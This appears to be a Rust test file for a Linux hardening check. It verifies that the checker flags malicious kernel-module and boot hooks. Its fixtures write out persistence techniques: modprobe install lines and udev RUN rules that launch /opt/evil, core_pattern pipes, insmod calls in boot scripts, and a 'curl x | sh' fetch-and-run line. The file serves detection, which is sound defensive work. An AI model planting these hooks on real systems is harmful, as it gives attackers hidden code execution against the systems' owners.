//! LNX-KERNEL-012.

use super::testing::{RELEASE, added, at, with_hooks};
use crate::evidence::linux::testing::ko_of;
use crate::policy::Status;
use crate::policy::checks::linux::testing::{check, status};

#[test]
fn hooks_of_modprobe_the_kernel_and_udev_run_only_programs_of_packages() {
    const ID: &str = "LNX-KERNEL-012";
    assert_eq!(status(ID, with_hooks()), Status::Pass);
    let conf = "/etc/modprobe.d/z.conf";
    let evil = with_hooks().file("/opt/evil", 0o755, "x");
    let hook = "# x\ninstall ext4 /usr/sbin/modprobe --ignore-install ext4; /opt/evil\n";
    let result = check(ID, evil.file(conf, 0o644, hook));
    assert_eq!(
        (result.status, result.evidence[0].at.line),
        (Status::Fail, Some(2))
    );
    assert_eq!(
        result.evidence[0].found.as_ref().map(|t| t.en.as_str()),
        Some("/opt/evil")
    );
    let shell = "install ext4 /bin/sh -c 'curl x | sh'\n";
    assert_eq!(added(ID, conf, shell), at(Status::Fail, conf, 1));
    assert_eq!(
        added(ID, conf, "install dccp /usr/bin/false\n").0,
        Status::Warn
    );
    assert_eq!(
        added(ID, conf, "blacklist nf_tables\n"),
        at(Status::Warn, conf, 1)
    );
    let list = "/etc/modules-load.d/z.conf";
    assert_eq!(added(ID, list, "\nacpiphp\n"), at(Status::Warn, list, 2));
    let sysctl = "/etc/sysctl.d/z.conf";
    let evil = || with_hooks().file("/opt/evil", 0o755, "x");
    for text in [
        "kernel.modprobe=/opt/evil\n",
        "kernel.core_pattern = |/opt/evil %p\n",
    ] {
        assert_eq!(
            status(ID, evil().file(sysctl, 0o644, text)),
            Status::Fail,
            "{text}"
        );
    }
    let rule = "ACTION==\"add\", RUN+=\"/opt/evil %k\"\n";
    let rules = "/etc/udev/rules.d/z.rules";
    assert_eq!(status(ID, evil().file(rules, 0o644, rule)), Status::Fail);
    let hook = "/etc/initramfs-tools/hooks/z";
    assert_eq!(added(ID, hook, "#!/bin/sh\n").0, Status::Warn);
    let local = "#!/bin/sh\ninsmod /opt/x.ko\n";
    let (got, path, _) = added(ID, "/etc/rc.local", local);
    assert_eq!(
        (got, path.as_deref()),
        (Status::Fail, Some("/etc/rc.local"))
    );
    assert_eq!(
        status(ID, with_hooks().missing("/etc/modprobe.d")),
        Status::Unknown
    );
}

#[test]
fn a_module_that_nobody_vouches_for_may_not_load_by_itself() {
    let module = "/lib/modules/6.1.0-9-amd64/updates/my-mod.ko";
    let build = with_hooks()
        .file(module, 0o644, ko_of(RELEASE, "my_mod"))
        .file("/etc/modules", 0o644, "my_mod\n");
    assert_eq!(status("LNX-KERNEL-012", build), Status::Fail);
}

/// interfaces(5): the programs of if-up.d run when an interface comes up. A script that a start line
/// leads to is read for what it loads, as the kernel runs it.
#[test]
fn scripts_that_run_at_boot_may_not_load_a_module_by_its_file() {
    let hook = "/etc/network/if-up.d/zz";
    let script = "#!/bin/sh\n/sbin/insmod /usr/lib/netns/helper.bin\n";
    let build = with_hooks().file(hook, 0o755, script);
    let got = check("LNX-KERNEL-012", build);
    assert_eq!(got.status, Status::Fail, "{got:?}");
    assert_eq!(got.evidence[0].at.path.as_deref(), Some(hook));
    assert_eq!(got.evidence[0].at.line, Some(2));
}

/// modprobe(8), udev(7), sysctl.d(5), tmpfiles.d(5), sysctl(8): the ways round the files that modprobe
/// and the kernel read by themselves.
#[test]
fn what_leads_modprobe_or_the_kernel_elsewhere_is_told() {
    const ID: &str = "LNX-KERNEL-012";
    let unit = "/etc/systemd/system/x.service.d/x.conf";
    let options = "[Service]\nEnvironment=\"MODPROBE_OPTIONS=-C /srv/c\"\n";
    assert_eq!(added(ID, unit, options), at(Status::Unknown, unit, 2));
    let hook = "/etc/network/if-up.d/zz";
    let run = |line: &str| added(ID, hook, &format!("#!/bin/sh\n{line}\n"));
    for line in [
        "modprobe -d /srv helper",
        "echo /srv/x > /proc/sys/kernel/modprobe",
        "sysctl -w kernel.core_pattern='|/srv/x'",
    ] {
        assert_eq!(run(line), at(Status::Unknown, hook, 2), "{line}");
    }
    assert_eq!(run("sysctl -w vm.swappiness=1").0, Status::Pass);
    let rules = "/etc/udev/rules.d/z.rules";
    for rule in [
        "SUBSYSTEM==\"net\" RUN+=\"zz\"\n",
        "TAG+=\"systemd\", ENV{SYSTEMD_WANTS}+=\"x.service\"\n",
    ] {
        assert_eq!(
            added(ID, rules, rule),
            at(Status::Unknown, rules, 1),
            "{rule}"
        );
    }
    assert_eq!(
        added(ID, rules, "KERNEL==\"x\", MODE=\"0666\"\n").0,
        Status::Pass
    );
    let evil = || with_hooks().file("/opt/evil", 0o755, "x");
    for (path, text) in [
        ("/etc/sysctl.d/z.conf", "kernel/core_patter*=|/opt/evil\n"),
        (
            "/etc/credstore/sysctl.extra",
            "kernel.core_pattern=|/opt/evil\n",
        ),
        (
            "/etc/tmpfiles.d/z.conf",
            "w /proc/sys/kernel/core_pattern - - - - |/opt/evil\n",
        ),
    ] {
        let got = check(ID, evil().file(path, 0o644, text));
        let place = got.evidence.first().and_then(|e| e.at.path.as_deref());
        assert_eq!((got.status, place), (Status::Fail, Some(path)), "{got:?}");
    }
}

/// What depmod writes names modules too, and is no package's file (modprobe(8), depmod(8)).
#[test]
fn soft_dependencies_of_the_modules_folder_count_for_modules_of_nobody() {
    let folder = "/lib/modules/6.1.0-9-amd64";
    let list = format!("{folder}/modules.softdep");
    let with = |text: &str| {
        with_hooks()
            .file(
                &format!("{folder}/updates/my-mod.ko"),
                0o644,
                ko_of(RELEASE, "my_mod"),
            )
            .file(&list, 0o644, text)
    };
    let usual = "# made by depmod\nsoftdep ext4 pre: crc32c\n";
    assert_eq!(status("LNX-KERNEL-012", with(usual)), Status::Pass);
    let got = check("LNX-KERNEL-012", with("softdep ext4 pre: crc32c my-mod\n"));
    assert_eq!(got.status, Status::Fail);
    assert_eq!(got.evidence[0].at.path.as_deref(), Some(list.as_str()));
}

#[test]
fn what_loads_modules_must_be_as_a_package_brought_it() {
    let changed = with_hooks()
        .file("/usr/sbin/modprobe", 0o755, "#!/bin/sh\n/srv/x\n")
        .link("/sbin", "usr/sbin");
    let got = check("LNX-KERNEL-012", changed);
    assert_eq!(got.status, Status::Unknown);
    assert_eq!(
        got.evidence[0].at.path.as_deref(),
        Some("/usr/sbin/modprobe")
    );
}
